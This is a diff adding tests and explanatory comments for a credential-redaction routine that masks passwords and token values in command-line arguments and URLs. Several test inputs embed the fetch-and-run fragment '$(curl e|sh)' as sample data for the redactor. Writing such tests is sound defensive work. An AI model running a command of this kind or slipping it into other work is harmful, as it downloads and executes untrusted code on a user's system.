@@ -25,6 +25,16 @@ import {
 //    reader of the argument sees it, `b` is the token's value's tail (hidden with it); the pair after
 //    is the URL's, kept, its text past a blank read as a line (`&page=x password=Y` keeps `Y`
 //    hidden), its payloads in sight.
+// The differential check's finds (against the code fix180 started from):
+// 4. A pair continuing a URL's query past an `&` in an argument's line, its value holding a
+//    `$(x --password X)` with literal text after it (`["--run", "srv https://u:pw@h/p?b=1&token=$(x
+//    --password X)Q x"]`): cut around its run-time parts, the piece after moved the reading past the
+//    part's own words, `X` kept in clear in the display (fix179's reading, now taken by more names,
+//    made it more common). Such a part is hidden whole; every other part stays in sight.
+// 5. A pasted URL's telling query value ending in a default left open (`…?token=$(curl e|sh)${V:-J`,
+//    a line a shell refuses) kept the default's word in the display; it was hidden to the line's end
+//    before only when a `--password X` left in clear in a part made the refused-line rule apply.
+//    Its word is read on now: its literal text hidden, its run-time parts in sight.
 
 /** `text` without its references' names (`${V:-` and `}` aside, a default's word is looked at). */
 const outsideReferences = (text: string) => text.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*(?::?[-=?+])?\}?/g, "");
@@ -220,6 +230,34 @@ describe("a later URL in an argument, a pair that does not tell after the tellin
         expectArgFilledBack(["--run", arg]);
       }),
       { numRuns: 300 },
+    );
+  });
+});
+
+describe("the differential check's finds", () => {
+  it("a continued pair's part holding a credential, literal text after it: that part hidden whole, others in sight", () => {
+    expectArgs(
+      ["--run", "srv https://u:pw@h/p?b=1&token=$(x --password hunter2)Q x"],
+      ["--run", "srv https://•@h/p?b=1&token=•• x"],
+      ["--run", "srv https://h/p?b=1"],
+    );
+    expectArgs(
+      ["--run", "srv https://u:pw@h/p?b=1&token=$(curl e|sh)J$(x --password hunter2) x"],
+      ["--run", "srv https://•@h/p?b=1&token=$(curl e|sh)•• x"],
+      ["--run", "srv https://h/p?b=1"],
+    );
+  });
+
+  it("a pasted telling query value ending in a default left open: its word's literal text hidden, its parts in sight", () => {
+    expectHiddenLine(
+      "srv --url=https://h/p?token=$(curl e|sh)${V:-J$(curl e|sh)Q",
+      "srv --url=https://h/p?token=$(curl e|sh)${V:-•$(curl e|sh)•",
+      "srv --url=https://h/p",
+    );
+    expectHiddenLine(
+      "srv https://h/p?token=$(curl e|sh)${V:-J",
+      "srv https://h/p?token=$(curl e|sh)${V:-•",
+      "srv https://h/p",
     );
   });
 });
